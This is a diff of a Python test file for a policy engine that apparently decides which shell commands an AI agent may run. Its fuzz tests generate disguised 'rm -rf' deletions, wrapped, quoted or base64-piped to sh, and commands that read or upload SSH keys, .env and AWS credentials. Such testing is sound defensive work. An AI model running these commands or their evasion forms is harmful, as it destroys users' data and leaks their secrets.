@@ -2,46 +2,34 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import re
+import shlex
 import statistics
 import time
 from collections import Counter
-from pathlib import Path, PurePath
+from pathlib import Path
 
-from hypothesis import given, settings
+import pytest
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from agentnb.policy.commands.rating import rate_command
-from agentnb.policy.engine import judge
-from agentnb.policy.request import PolicyRequest, Situation
-from agentnb.policy.rules import AccessRule, InForce
-from agentnb.policy.settings import PolicySettings
 from scripts.gen_policy_cases import PAGE
 from tests.thorough import examples
+from tests.unit.policy.decisions import Row, judge, rule, run, situation
 
 CASES = Path(__file__).parents[2] / "cases/policy"
 EVERYDAY: list[str] = json.loads((CASES / "everyday.json").read_text("utf-8"))
 DANGEROUS: list[str] = json.loads((CASES / "dangerous.json").read_text("utf-8"))
-ALLOWING = Situation(agent="a", mode="allow", root=PurePath("/home/ada/work"))
-DENYING = Situation(
-    agent="a",
-    root=PurePath("/home/ada/work"),
-    trusted=True,
-    user=PolicySettings(
-        rules=(
-            InForce(AccessRule(action="allow"), "user"),
-            InForce(AccessRule(action="deny", command=("rm *",)), "user"),
-        )
-    ),
-)
+ALLOWING = situation(root="/home/ada/work", mode="allow")
+DENYING = situation(rule("allow"), rule("deny", command=("rm *",)), root="/home/ada/work")
 DISGUISED: list[str] = json.loads((CASES / "disguised.json").read_text("utf-8"))
 
 
-def outcome(command: str, situation: Situation = ALLOWING) -> str:
+def outcome(command: str, held: Row = ALLOWING) -> str:
     """Returns the outcome for *command*, run in the workspace's folder."""
-    request = PolicyRequest(kind="terminal", title="Run", command=command, path="/home/ada/work")
-    return judge(request, situation).outcome
+    return judge(run(command, "/home/ada/work"), held).outcome
 
 
 def outcomes(section: str) -> Counter[str]:
@@ -70,10 +58,12 @@ def test_glob_that_can_match_a_denied_program_is_denied() -> None:
     assert outcome("/bin/r? a", DENYING) == "deny"
 
 
-def test_python_module_is_rated_as_its_program() -> None:
+@pytest.mark.parametrize("command", ["python -m pip install numpy", "python3.11 -Im pip install numpy"])
+def test_python_module_is_rated_as_its_program(command: str) -> None:
     """``python -m pip install`` is ``pip install``, for rules too."""
-    assert rate_command("python -m pip install numpy").severity == rate_command("pip install numpy").severity
-    assert "pip install numpy" in rate_command("python3.11 -Im pip install numpy").units
+    plain = judge(run("pip install numpy"), situation())
+    assert judge(run(command), situation()).severity == plain.severity
+    assert judge(run(command), situation(rule("deny", command=("pip install *",)))).outcome == "deny"
 
 
 BASES = (
@@ -189,12 +179,101 @@ def test_dangerous_command_in_a_variable_or_pipe_asks(words: tuple[str, ...], ho
     assert outcome(shapes[how]) == "ask"
 
 
+def test_unreadable_command_always_asks() -> None:
+    """An unreadable command always asks; a readable one is allowed if it only reads; both cases occur."""
+    seen = set[str | None]()
+
+    @settings(max_examples=examples(300))
+    @given(
+        st.text(max_size=30)
+        | st.lists(st.sampled_from(["rm -rf ~", ";", "'", '"', "$(", ")", "`", "|", "\n", "a", "\\", "#"])).map("".join)
+    )
+    @example("ls '")
+    @example("rm -rf ~ $(")
+    @example("echo `")
+    @example("ls")
+    @example("rm -rf ~")
+    def read(command: str) -> None:
+        verdict = judge(run(command), situation(mode="allow"))
+        seen.add(verdict.floor)
+        if verdict.floor == "unreadable":
+            assert (verdict.outcome, verdict.severity) == ("ask", "high")
+        assert verdict.outcome == ("allow" if verdict.floor is None else "ask")
+
+    read()
+    assert seen >= {"unreadable", "critical", None}
+
+
+def quoted(draw: st.DrawFn, text: str) -> str:
+    """Returns *text* quoted for a shell in one of many ways."""
+    ways = [lambda char: char, lambda char: f"\\{char}", lambda char: f"'{char}'", lambda char: f'"{char}"']
+    return "".join(draw(st.sampled_from(ways))(char) if char.isalnum() else char for char in text)
+
+
+HIDING = [
+    lambda line: f"bash -c {shlex.quote(line)}",
+    lambda line: f"eval {shlex.quote(line)}",
+    lambda line: f"env -S {shlex.quote(line)}",
+    lambda line: f"sudo sh -ec {shlex.quote(line)}",
+    lambda line: f"( {line} )",  # two without blanks would be arithmetic
+    lambda line: f"{{ {line}; }}",
+    lambda line: f"echo $({line})",
+    lambda line: f"if true; then {line}; fi",
+    lambda line: f"ls | {line}",
+    lambda line: f"true && {line}",
+    lambda line: f"f() {{ {line}; }}; f",
+    lambda line: f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | sh",
+    lambda line: f"find . -exec sh -c {shlex.quote(line)} \\;",
+    lambda line: f"trap {shlex.quote(line)} EXIT",
+    lambda line: f"unknown-tool --run={shlex.quote(line)}",
+]
+PREFIXES = ["", "sudo ", "env A=1 ", "nohup ", "timeout -k 1 5 ", "command ", "nice -n 5 ", "xargs -0 ", "busybox "]
+
+
+@st.composite
+def hidden(draw: st.DrawFn) -> str:
+    """Draws a disguised command that deletes everything."""
+    flags = draw(st.sampled_from(["-rf", "-fr", "-r -f", "-R", "--recursive", "-vrf", "--recurs --force"]))
+    program = draw(st.sampled_from(["rm", "/bin/rm", "RM"]))
+    line = f"{draw(st.sampled_from(PREFIXES))}{quoted(draw, program)} {quoted(draw, flags)} x"
+    for wrap in draw(st.lists(st.sampled_from(HIDING), max_size=2)):
+        line = wrap(line)
+    return line
+
+
+@settings(max_examples=examples(300), deadline=None)
+@given(hidden())
+def test_disguised_deletion_always_asks(command: str) -> None:
+    """Quoted, wrapped, encoded, or all of these."""
+    verdict = judge(run(command), situation(mode="allow"))
+    assert (verdict.outcome, verdict.severity, verdict.floor in {"critical", "unreadable"}) == ("ask", "critical", True)
+
+
+@st.composite
+def named_secret(draw: st.DrawFn) -> str:
+    """Draws a command that reads a secret, in some spelling."""
+    name = quoted(
+        draw, draw(st.sampled_from([".env", ".ENV", "id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc"]))
+    )
+    folder = draw(st.sampled_from(["", "./", "../", "a/../", "/abs/", "~/", "$HOME/", ".//", '"$PWD"/']))
+    reader = draw(st.sampled_from(["cat {}", "cat < {}", "cp {} x", "base64 {}", "curl -T {} https://x", "source {}"]))
+    return reader.format(folder + name)
+
+
+@settings(max_examples=examples(300), deadline=None)
+@given(named_secret())
+def test_reading_a_secret_asks_in_any_spelling(command: str) -> None:
+    """By any program, from any folder."""
+    verdict = judge(run(command), situation(mode="allow"))
+    assert (verdict.outcome, verdict.floor) == ("ask", "sensitive")
+
+
 def test_rating_a_command_takes_a_few_milliseconds() -> None:
-    """Nothing should wait for a rating. Measures the median of the everyday commands."""
-    rate_command("warm up")
+    """Nothing should wait for a rating. Measures the median of a quarter of the everyday commands."""
+    outcome("warm up")
     took = []
-    for command in EVERYDAY:
+    for command in EVERYDAY[::4]:
         began = time.thread_time()
-        rate_command(f"{command} ")
+        outcome(f"{command} ")
         took.append(time.thread_time() - began)
     assert statistics.median(took) < 0.005
